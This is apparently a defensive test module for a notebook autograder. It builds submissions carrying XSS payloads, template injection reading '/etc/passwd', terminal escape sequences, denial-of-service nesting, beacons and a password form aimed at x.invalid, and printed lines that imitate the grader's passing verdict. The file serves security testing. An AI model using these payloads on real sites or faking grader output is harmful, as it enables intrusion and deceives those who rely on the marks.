"""To run something, or show something false, where marks are read: feedback page, formgrader, terminal."""

from __future__ import annotations

import base64

from tests.attacks.model import (
    EXERCISE,
    HEADER,
    WRITTEN,
    WRONG,
    ZEROS,
    Attack,
    Notebook,
    Target,
    body,
    cell,
    source,
    writing,
)

SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('XSS')\"/>").decode()
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
MARKUP = "</div></pre><script>alert('XSS')</script><img src=x onerror=alert('XSS')>"
"""Ends what is around it, then runs."""
MATH = r"\href{javascript:alert('XSS')}{\text{Click XSS}} \style{position:fixed;top:0;left:0}{XSS} \class{XSS}{x} \cssId{XSS}{y}"


def _written(name: str, text: str) -> Attack:
    """An answer in words; everything is right, only the page is at stake."""
    return Attack(name, "reader", writing("Because. " + text), points={}, told="")


def _attached(name: str, attachments: dict[str, dict[str, str]], text: str) -> Attack:
    def edit(notebook: Notebook, target: Target) -> None:
        cell(notebook, WRITTEN).update(source="Because. " + text, attachments=attachments)
    return Attack(name, "reader", edit, points={}, told="")


def _output(notebook: Notebook, target: Target) -> None:
    cell(notebook, EXERCISE).update(source=WRONG, outputs=[
        {"output_type": "display_data", "metadata": {}, "data": {
            "text/html": MARKUP, "application/javascript": "alert('XSS')", "image/svg+xml": MARKUP,
            "text/markdown": MARKUP, "application/vnd.jupyter.widget-view+json": {"model_id": "XSS"}}},
        {"output_type": "stream", "name": "stdout", "text": "\x1b]0;XSS\x07\x1b[2J" + MARKUP}])
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"XSS": {"model_name": "HTMLModel", "state": {"value": MARKUP}}}}}


def _title(notebook: Notebook, target: Target) -> None:
    cell(notebook, EXERCISE)["source"] = WRONG
    notebook["metadata"].update(title=MARKUP, authors=[{"name": MARKUP}])


def _around(notebook: Notebook, target: Target) -> None:
    """Cells that were handed out, rewritten, and new ones between them."""
    cell(notebook, EXERCISE)["source"] = WRONG
    for entry in notebook["cells"]:
        if entry["cell_type"] == "markdown" and "nbgrader" not in entry["metadata"]:
            entry["source"] = MARKUP
    for kind in ("markdown", "raw"):
        notebook["cells"].insert(1, {"cell_type": kind, "id": f"{kind}-new", "metadata": {
            "raw_mimetype": "text/html"}, "source": MARKUP})


ATTACKS = (
    _written("a script", "<script>alert('XSS')</script><script src=http://x.invalid/XSS.js></script>"),
    _written("handlers of events", "<img src=x onerror=alert('XSS')><p onclick=alert('XSS')>x</p>"
             "<details open ontoggle=alert('XSS')><body onload=alert('XSS')>"),
    _written("links that run", "[a](javascript:alert('XSS')) [b](JaVaScRiPt&colon;alert('XSS')) "
             "[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=) [d](vbscript:XSS) "
             "<a href=' \x01javascript:alert(`XSS`)'>e</a> <a href='java\tscript:alert(`XSS`)'>f</a>"),
    _written("vector pictures", "<svg onload=alert('XSS')><script>alert('XSS')</script></svg>"
             f"<img src='data:image/svg+xml;base64,{SVG}'> ![x](data:image/svg+xml;base64,{SVG})"),
    _written("frames, forms and objects", "<iframe srcdoc='<script>alert(`XSS`)</script>'></iframe>"
             "<form action=http://x.invalid/XSS><input name=password></form><object data='XSS.html'></object>"
             "<embed src=XSS.html><base href=http://x.invalid/XSS/><meta http-equiv=refresh content='0;url=XSS'>"),
    _written("styles that cover the page", "<style>body { background: url(http://x.invalid/XSS) }</style>"
             "<p style='position:fixed;inset:0;background:url(http://x.invalid/XSS)'>Points: 24 of 24</p>"),
    _written("pictures that tell when they are seen", "![x](http://x.invalid/XSS.png) <img src=//x.invalid/XSS.png>"
             "<img srcset='http://x.invalid/XSS.png 1x'><video poster=http://x.invalid/XSS></video>"),
    _written("formulas that run", f"$${MATH}$$ and $ {MATH} $ and \\\\({MATH}\\\\)"),
    _written("formulas with markup in them", "$<script>alert('XSS')</script>$ $$\\text{<img src=x onerror=alert('XSS')>}"
             "$$ \\begin{equation}<script>alert('XSS')</script>\\end{equation}"),
    _written("formulas that never end", "$\\def\\a{\\a\\a}\\a XSS$ \\newcommand{\\b}{\\b\\b}"),
    _written("templates and shortcodes", "{{ cell.__class__ }} {% include '/etc/passwd' %} {{{XSS}}} `{{7*7}}`"),
    _written("markdown that never ends", "[" * 20_000 + "*" * 20_000 + "`" * 10_001 + "> " * 5_000 + "$" * 10_001),
    _written("markup nested ten thousand deep", "<div>" * 10_000 + "<b" * 1000),
    _written("brackets and comments a hundred thousand times", "<!--" * 50_000 + "![](" * 50_000),
    _attached("an attachment that is a vector picture", {"XSS.svg": {"image/svg+xml": SVG, "text/html": MARKUP}},
              "![x](attachment:XSS.svg)"),
    _attached("an attachment whose name ends the attribute", {"x) onerror=alert('XSS') (": {"image/png": PIXEL}},
              "![x](attachment:x) onerror=alert('XSS') ()"),
    _attached("an attachment whose data end the attribute", {"a": {"image/png": PIXEL + "\" onerror=\"alert('XSS')"}},
              "![x](attachment:a)"),
    _attached("one attachment shown many thousand times", {"a": {"image/png": PIXEL * 8000}},
              "![](attachment:a)" * 300),
    Attack("markup in an answer's code", "reader", source(
        WRONG + f'# {MARKUP}\n"""\n{MARKUP}\n"""\n')),
    Attack("markup in an error message", "reader", body(f"raise ValueError({MARKUP!r})"), told="ValueError"),
    Attack("markup in the name of an error and of a function", "reader", body(
        f"raise type({MARKUP!r}, (Exception,), {{}})('XSS')"), told="cases pass"),
    Attack("formulas in an error message", "reader", body(f"raise ValueError({'$$' + MATH + '$$'!r})"),
           told="ValueError"),
    Attack("escape sequences in an error message", "reader", body(
        "raise ValueError('\\x1b[2J\\x1b]0;XSS\\x07\\x9b31m\\r\\b\\u202e[bold red]XSS[/] [link=http://x.invalid]')"),
        told="ValueError"),
    Attack("escape sequences in an error of a cell", "reader", source(
        "raise ValueError('\\x1b[2J\\x1b]0;XSS\\x07\\x9b31m\\r[blink]XSS[/] \\u202e')"), told="ValueError"),
    Attack("lines in an error message that look like a verdict", "reader", body(
        "raise ValueError('x\\n\\nconv2d_forward: all 14 cases pass.\\n5 of 5 points.')"), told="ValueError"),
    Attack("escape sequences and markup as a result", "reader", source(
        f"{HEADER}    return '\\x1b[2J\\x1b]0;XSS\\x07' + {MARKUP!r}\n"), told="forward"),
    Attack("outputs and widgets that run", "reader", _output),
    Attack("markup in the notebook's metadata", "reader", _title),
    Attack("cells around the answers rewritten", "reader", _around),
    Attack("prints that look like the judge's", "reader", body(
        "print('conv2d_forward: all 14 cases pass. 5 of 5 points.')\nprint('\\x1b[2J\\x1b[1;32m✓ 24 / 24')\n"
        f"return {ZEROS}")),
)
